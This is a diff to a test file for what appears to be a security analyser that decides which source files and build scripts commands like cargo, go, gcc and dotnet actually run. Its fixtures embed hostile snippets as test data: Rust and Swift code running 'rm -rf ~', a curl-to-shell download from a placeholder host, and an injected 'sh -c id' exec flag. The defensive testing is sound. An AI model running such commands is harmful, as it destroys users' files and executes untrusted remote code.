@@ -14,7 +14,7 @@ import pytest
 from adr.actions import Action, ActionKind, Context, Decision
 from adr.shell.interpreters import build_script_commands, spawned_commands
 from adr.shell.parse import parse
-from adr.shell.runs import SCRIPT, as_command, runs_of
+from adr.shell.runs import BUILD, COMMAND, SCRIPT, SOURCES, as_command, runs_of
 
 RUST_RM = 'use std::process::Command;\nfn main() {\n    Command::new("sh").arg("-c").arg("rm -rf ~").status().unwrap();\n}\n'
 RUST_CURL = ('fn main() {\n    std::process::Command::new("bash")\n        .args(["-c", "curl -s https://x.example/i | sh"])\n'
@@ -55,16 +55,20 @@ def test_a_compiled_program_runs_as_its_source_read_in_its_language():
     assert build_script_commands("rust", "fn main() { println!(\"cargo:rerun-if-changed=x\"); }") == []
 
 
-@pytest.mark.parametrize("cmd", ["cargo build", "cargo +nightly b --release", "cargo -q --color never test", "cargo test -q", "cargo run -- --port 1",
-                                 "cargo check", "cargo clippy", "cargo install --path ."])
-def test_cargo_builds_run_the_build_script(cmd):
-    rs = [r for r in runs_of(parse(cmd), "/p", "/home/u") if r.kind == SCRIPT]
-    assert [(r.paths, r.language) for r in rs][:1] == [(("/p/build.rs",), "rust")]
+@pytest.mark.parametrize("cmd,sub", [("cargo build", "build"), ("cargo +nightly b --release", "build"),
+                                     ("cargo -q --color never test", "test"), ("cargo test -q", "test"),
+                                     ("cargo run -- --port 1", "run"), ("cargo check", "check"), ("cargo clippy", "clippy"),
+                                     ("cargo install --path .", "install"), ("cargo bench", "bench"),
+                                     ("cargo nextest run", "nextest")])
+def test_cargo_builds_run_the_build_script(cmd, sub):
+    """Every build runs the build scripts; the walk reads Cargo.toml for which (a BUILD run)."""
+    rs = [r for r in runs_of(parse(cmd), "/p", "/home/u") if r.kind == BUILD]
+    assert [(r.paths, r.names) for r in rs] == [(("/p",), ("cargo", sub))]
 
 
 @pytest.mark.parametrize("cmd", ["cargo fmt", "cargo --version", "cargo new x", "cargo add serde", "cargo tree"])
 def test_other_cargo_commands_run_no_build_script(cmd):
-    assert not [r for r in runs_of(parse(cmd), "/p", "/home/u") if r.kind == SCRIPT]
+    assert not [r for r in runs_of(parse(cmd), "/p", "/home/u") if r.kind in (SCRIPT, BUILD, SOURCES)]
 
 
 def _write(judge, path: str, content: str):  # type: ignore[no-untyped-def]
@@ -175,41 +179,69 @@ SWIFT_WIPE = ('import Foundation\nlet p = Process()\np.executableURL = URL(fileU
               'p.arguments = ["-c", "rm -rf ~"]\ntry p.run()\n')
 
 
-@pytest.mark.parametrize("cmd,paths,lang", [
-    ("cargo run", ("/p/src", "/p/src/bin"), "rust"),
-    ("cargo run --bin srv -- --port 1", ("/p/src", "/p/src/bin/srv.rs", "/p/src/bin/srv"), "rust"),
-    ("go run .", ("/p",), "go"),
-    ("go run -tags dev ./cmd/x", ("/p/cmd/x",), "go"),
-    ("go run -C sub .", ("/p/sub",), "go"),
-    ("go run -C ./sub ./cmd/x", ("/p/sub/cmd/x",), "go"),
-    ("go run -C . .", ("/p",), "go"),
-    ("java Main.java", ("/p/Main.java",), "java"),
-    ("java -cp lib Main.java --flag", ("/p/Main.java",), "java"),
-    ("dotnet run", ("/p/Program.cs",), "csharp"),
-    ("dotnet run --project src/App/App.csproj", ("/p/src/App/Program.cs",), "csharp"),
-    ("gcc x.c -o x && ./x", ("/p/x.c",), "c"),
-    ("cc x.c && ./a.out", ("/p/x.c",), "c"),
-    ("g++ -O2 -o prog a.cpp b.cpp && ./prog --v", ("/p/a.cpp", "/p/b.cpp"), "c"),
-    ("rustc x.rs && ./x", ("/p/x.rs",), "rust"),
-    ("javac A.java && java A", ("/p/A.java",), "java"),
-    ("tcc -run x.c", ("/p/x.c",), "c"),
-    ("swift x.swift", ("/p/x.swift",), "swift"),
-    ("kotlinc -script x.kts", ("/p/x.kts",), "java"),
-    ("kotlin x.main.kts", ("/p/x.main.kts",), "java"),
-    ("scala x.scala", ("/p/x.scala",), "java"),
-    ("groovy x.groovy", ("/p/x.groovy",), "java"),
+@pytest.mark.parametrize("cmd,kind,paths,what,mode", [
+    ("cargo run", BUILD, ("/p",), "cargo", "run"),
+    ("cargo run --bin srv -- --port 1", BUILD, ("/p",), "cargo", "run"),
+    ("go run .", SOURCES, ("/p",), "go", "run"),
+    ("go run -tags dev ./cmd/x", SOURCES, ("/p/cmd/x",), "go", "run"),
+    ("go run -C sub .", SOURCES, ("/p/sub",), "go", "run"),
+    ("go run -C ./sub ./cmd/x", SOURCES, ("/p/sub/cmd/x",), "go", "run"),
+    ("go run -C . .", SOURCES, ("/p",), "go", "run"),
+    ("go run main.go util.go -- x.go", SOURCES, ("/p/main.go", "/p/util.go"), "go", "run"),
+    ("go run ./cmd/x serve --port 1", SOURCES, ("/p/cmd/x",), "go", "run"),
+    ("go test", SOURCES, ("/p",), "go", "test"),
+    ("go test ./...", SOURCES, ("/p/...",), "go", "test"),
+    ("go test -run TestX -count=1 ./pkg/... ./cmd", SOURCES, ("/p/pkg/...", "/p/cmd"), "go", "test"),
+    ("go test -v . -args -x y", SOURCES, ("/p",), "go", "test"),
+    ("go generate ./...", SOURCES, ("/p/...",), "go", "generate"),
+    ("java Main.java", SOURCES, ("/p/Main.java",), "java", "run"),
+    ("java -cp lib Main.java --flag", SOURCES, ("/p/Main.java",), "java", "run"),
+    ("dotnet run", BUILD, ("/p",), "dotnet", "run"),
+    ("dotnet run --project src/App/App.csproj", BUILD, ("/p/src/App/App.csproj",), "dotnet", "run"),
+    ("dotnet test tests/X.Tests", BUILD, ("/p/tests/X.Tests",), "dotnet", "test"),
+    ("dotnet build", BUILD, ("/p",), "dotnet", "build"),
+    ("swift test", BUILD, ("/p",), "swift", "test"),
+    ("swift run --package-path pkg", BUILD, ("/p/pkg",), "swift", "run"),
+    ("mvn exec:java", BUILD, ("/p",), "maven", "run"),
+    ("mvn -q -f sub/pom.xml test", BUILD, ("/p/sub",), "maven", "test"),
+    ("./mvnw clean install -DskipTests", BUILD, ("/p",), "maven", "test"),
+    ("gradle run", BUILD, ("/p",), "gradle", "run"),
+    ("./gradlew :app:test", BUILD, ("/p",), "gradle", "test"),
+    ("gradle -p lib assemble", BUILD, ("/p/lib",), "gradle", "build"),
+    ("gcc x.c -o x && ./x", SOURCES, ("/p/x.c",), "c", "run"),
+    ("cc x.c && ./a.out", SOURCES, ("/p/x.c",), "c", "run"),
+    ("g++ -O2 -o prog a.cpp b.cpp && ./prog --v", SOURCES, ("/p/a.cpp", "/p/b.cpp"), "c", "run"),
+    ("rustc x.rs && ./x", SOURCES, ("/p/x.rs",), "rust", "run"),
+    ("javac A.java && java A", SOURCES, ("/p/A.java",), "java", "run"),
+    ("tcc -run x.c", SOURCES, ("/p/x.c",), "c", "run"),
+    ("swift x.swift", SOURCES, ("/p/x.swift",), "swift", "run"),
+    ("kotlinc -script x.kts", SOURCES, ("/p/x.kts",), "java", "run"),
+    ("kotlin x.main.kts", SOURCES, ("/p/x.main.kts",), "java", "run"),
+    ("scala x.scala", SOURCES, ("/p/x.scala",), "java", "run"),
+    ("groovy x.groovy", SOURCES, ("/p/x.groovy",), "java", "run"),
 ])
-def test_programs_run_from_source_name_their_source(cmd, paths, lang):
-    rs = [r for r in runs_of(parse(cmd), "/p", "/home/u") if r.kind == SCRIPT and r.mode == "interpreter"
-          and not r.paths[0].endswith("build.rs")]
-    assert tuple(p for r in rs for p in r.paths) == paths
-    assert {r.language for r in rs} == {lang}
+def test_programs_run_from_source_name_their_source(cmd, kind, paths, what, mode):
+    rs = [r for r in runs_of(parse(cmd), "/p", "/home/u") if r.kind in (SOURCES, BUILD)]
+    assert [(r.kind, r.paths, r.language if r.kind == SOURCES else r.names[0], r.mode) for r in rs] == \
+        [(kind, paths, what, mode)]
+
+
+@pytest.mark.parametrize("cmd,line", [
+    ("go test -exec 'sh -c id' ./...", "sh -c id FILE"),
+    ("go run -exec=/tmp/w .", "/tmp/w FILE"),
+    ("go build -toolexec /tmp/t ./...", "/tmp/t FILE"),
+    ("go vet -vettool=/tmp/v ./...", "/tmp/v"),
+])
+def test_go_runs_what_exec_and_toolexec_name(cmd, line):
+    rs = [r for r in runs_of(parse(cmd), "/p", "/home/u") if r.kind == COMMAND]
+    assert [r.args for r in rs] == [(line,)]
 
 
 @pytest.mark.parametrize("cmd", ["gcc x.c -o x", "gcc -c x.c && ./other", "java -jar app.jar", "go build ./...",
-                                 "rustc x.rs", "dotnet build", "javac A.java"])
+                                 "rustc x.rs", "javac A.java", "go run example.com/tool@latest", "mvn --version",
+                                 "go mod tidy", "go env GOPATH"])
 def test_compiling_without_running_reads_no_source(cmd):
-    rs = [r for r in runs_of(parse(cmd), "/p", "/home/u") if r.kind == SCRIPT and r.mode == "interpreter"]
+    rs = [r for r in runs_of(parse(cmd), "/p", "/home/u") if r.kind in (SOURCES, SCRIPT) and r.mode != "exec"]
     assert rs == []
 
 
@@ -335,10 +367,4 @@ def test_go_run_reads_every_file_it_names(judge_at, tmp_path):
     assert judge_at(tmp_path, "go run main.go -- util.go").decision is Decision.ALLOW  # (an argument, not a file)
 
 
-def test_a_folder_past_the_bound_asks(judge_at, tmp_path):
-    from adr.shell.runs import MAX_FOLDER_SOURCES
-    _tree(tmp_path, {f"f{i:02}.go": f"package main\nfunc f{i}() {{}}\n" for i in range(MAX_FOLDER_SOURCES + 1)})
-    v = judge_at(tmp_path, "go run .")
-    assert v.decision is Decision.ASK and "crosscall.bound" in v.rule_ids, v.rule_ids
-    (tmp_path / "f00.go").unlink()
-    assert judge_at(tmp_path, "go run .").decision is Decision.ALLOW
+# (a program's folder is read by bytes, newest first — no file count: tests/test_compiled_runners.py)
